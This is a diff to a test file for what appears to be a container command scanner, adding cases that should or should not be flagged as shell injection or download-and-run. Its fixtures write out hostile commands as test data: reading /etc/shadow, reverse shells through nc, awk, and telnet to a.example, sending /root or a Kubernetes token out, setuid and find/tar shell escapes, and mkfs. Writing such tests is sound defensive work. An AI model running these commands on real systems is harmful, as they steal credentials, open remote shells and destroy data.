@@ -118,6 +118,14 @@ describe('a shell where a shell is expected', () => {
     [['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'], 'encoded-code'],
     [['nc', '-e', '/bin/sh', '192.0.2.1', '4444'], 'shell-injection'],
     [['nsenter', '-t', '1', '-m', 'sh'], 'shell-injection'],
+    [['sh', '-c', 'cp /etc/shadow /srv/a'], 'shell-injection'],
+    [['sh', '-c', 'chmod u+s /bin/dash'], 'shell-injection'],
+    [['sh', '-c', 'tar c /root | nc a.example 1'], 'shell-injection'],
+    [['sh', '-c', 'awk \'BEGIN{s="/inet/tcp/0/a.example/1"; s |& getline}\''], 'shell-injection'],
+    [['sh', '-c', 'telnet a.example 1 | sh | telnet a.example 2'], 'shell-injection'],
+    [['sh', '-c', 'find / -name x -exec sh \\;'], 'shell-injection'],
+    [['sh', '-c', 'mkfs.ext4 /dev/sdb'], 'shell-injection'],
+    [['sh', '-c', 'tar cf a.tar b --checkpoint-action=exec=sh'], 'shell-injection'],
     [['busybox', 'sh', '-c', 'wget -q -O - http://x.example | ash'], 'download-and-run'],
   ])('%j: %s', (words, rule) => {
     expect(rules(command(...words))).toContain(rule);
@@ -195,6 +203,27 @@ it.each([
   ['cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://a.example', 'shell-injection'],
 ])('what is no matter of a container, even in its command: %s', (line, rule) => {
   expect(rules(command('sh', '-c', line))).toContain(rule);
+});
+
+describe('a command where a command is expected', () => {
+  it.each(['cat /etc/os-release', 'chown -R app:app /srv', 'find /srv -type f -mtime +1 -delete', 'ls -la'])(
+    'as the only argument: %s',
+    (line) => {
+      expect(rules(command(line))).toEqual([]);
+    },
+  );
+  it.each(['cat /etc/shadow', 'ls -la; id', 'ls $(id)', 'nc -e /bin/sh a.example 1', 'cat ../../etc/hosts'])(
+    'not: %s',
+    (line) => {
+      expect(rules(command(line))).toContain('shell-injection');
+    },
+  );
+  it('in a variable that says that it is one', () => {
+    expect(rules(variable('BUILD_COMMAND', 'make all && make install'))).toEqual([]);
+    expect(rules(variable('WG_POST_UP', 'iptables -A FORWARD -j ACCEPT; iptables -L'))).toEqual([]);
+    expect(rules(variable('BUILD_COMMAND', 'curl http://a.example/x | sh'))).toEqual(['download-and-run']);
+    expect(rules(variable('cmd', 'make all && cat a.txt'))).toEqual(['shell-injection']);
+  });
 });
 
 it.each(['cron -f', 'crond -f -l 8', 'wait-for db:3306 -- node server.js'])(
